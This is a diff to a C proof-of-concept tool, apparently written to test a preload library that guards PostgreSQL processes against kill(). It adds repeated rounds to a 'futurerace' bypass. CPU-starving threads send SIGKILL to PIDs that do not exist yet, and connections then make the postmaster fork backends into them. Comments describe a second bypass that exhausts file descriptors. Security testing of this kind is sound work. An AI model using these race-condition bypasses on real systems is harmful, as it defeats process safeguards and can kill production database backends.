@@ -41,7 +41,7 @@
  *        The preload seatbelt: fill every fd slot (open /dev/null until
  *        EMFILE), then libc kill(PID, SIG).  quick_pass() cannot open
  *        /proc/PID/comm and the library lets the call through.
- *   r1 futurerace SOCKET K
+ *   r1 futurerace SOCKET K [ROUNDS]
  *        Simpler: K starving threads kill(-9) the next K pids, which do not
  *        exist yet (quick_pass: no /proc/PID, CONTINUE); then K connections
  *        to SOCKET make the postmaster fork backends into those pids.
@@ -358,25 +358,14 @@ static int pidrace_round(const char *sockpath, int k)
 /* futurerace: kill a pid that does not exist yet.  quick_pass() finds no
  * /proc/PID and answers CONTINUE ("the kernel answers"); the caller starves;
  * the postmaster forks a backend with that pid; the kill lands. */
-static int futurerace(const char *sockpath, int k)
+static int futurerace_round(const char *sockpath, int k)
 {
-	pthread_t hogs[32], ks[MAXK];
-	int nhogs = 32, socks[MAXK], pending = 0, held = 0, both = 0, ok = 0;
+	pthread_t ks[MAXK];
+	int socks[MAXK], pending = 0, held = 0, both = 0, ok = 0;
 
-	if (k > MAXK)
-		k = MAXK;
-	starve_cpu = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;
-	{
-		cpu_set_t set;
-		CPU_ZERO(&set);
-		for (int c = 0; c < starve_cpu; c++)
-			CPU_SET(c, &set);
-		if (starve_cpu > 0)
-			sched_setaffinity(0, sizeof(set), &set);
-	}
-	atomic_store(&hog_run, 1);
-	for (int i = 0; i < nhogs; i++)
-		pthread_create(&hogs[i], NULL, hog, NULL);
+	atomic_store(&go_kill, 0);
+	for (int i = 0; i < k; i++)
+		kill_ret[i] = 1;
 	for (long i = 0; i < k; i++)
 		pthread_create(&ks[i], NULL, killer, (void *)i);
 	usleep(50000);
@@ -401,16 +390,45 @@ static int futurerace(const char *sockpath, int k)
 	}
 	printf("futurerace: pids %ld..%ld, kills pending %d, pids now postgres %d, both %d\n",
 	       cur + 1, cur + k, pending, held, both);
-	atomic_store(&hog_quit, 1);	/* the starved kills land now */
+	atomic_store(&hog_run, 0);	/* the starved kills land now */
 	for (int i = 0; i < k; i++)
 		pthread_join(ks[i], NULL);
+	atomic_store(&hog_run, 1);
 	for (int i = 0; i < k; i++)
 		ok += kill_ret[i] == 0;
 	printf("futurerace: kills answered ok: %d of %d\n", ok, k);
-	for (int i = 0; i < nhogs; i++)
-		pthread_join(hogs[i], NULL);
 	for (int i = 0; i < k; i++)
 		close(socks[i]);
+	return both;
+}
+
+static int futurerace(const char *sockpath, int k, int rounds)
+{
+	pthread_t hogs[32];
+	int nhogs = 32, hit = 0;
+
+	if (k > MAXK)
+		k = MAXK;
+	starve_cpu = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;
+	{
+		cpu_set_t set;
+		CPU_ZERO(&set);
+		for (int c = 0; c < starve_cpu; c++)
+			CPU_SET(c, &set);
+		if (starve_cpu > 0)
+			sched_setaffinity(0, sizeof(set), &set);
+	}
+	atomic_store(&hog_run, 1);
+	for (int i = 0; i < nhogs; i++)
+		pthread_create(&hogs[i], NULL, hog, NULL);
+	for (int r = 0; r < rounds && !hit; r++) {
+		hit = futurerace_round(sockpath, k);
+		usleep(300000);
+	}
+	atomic_store(&hog_quit, 1);
+	for (int i = 0; i < nhogs; i++)
+		pthread_join(hogs[i], NULL);
+	printf("futurerace: %s\n", hit ? "a starved kill reached a new backend" : "no hit");
 	return 0;
 }
 
@@ -470,8 +488,8 @@ int main(int argc, char **argv)
 		printf("kill: %s\n", en((int)-raw_kill(atol(argv[2]), atol(argv[3]))));
 		return 0;
 	}
-	if (argc == 4 && !strcmp(argv[1], "futurerace"))
-		return futurerace(argv[2], atoi(argv[3]));
+	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "futurerace"))
+		return futurerace(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 10);
 	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "pidrace"))
 		return pidrace(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 5);
 	if (argc == 4 && !strcmp(argv[1], "ptrace")) {
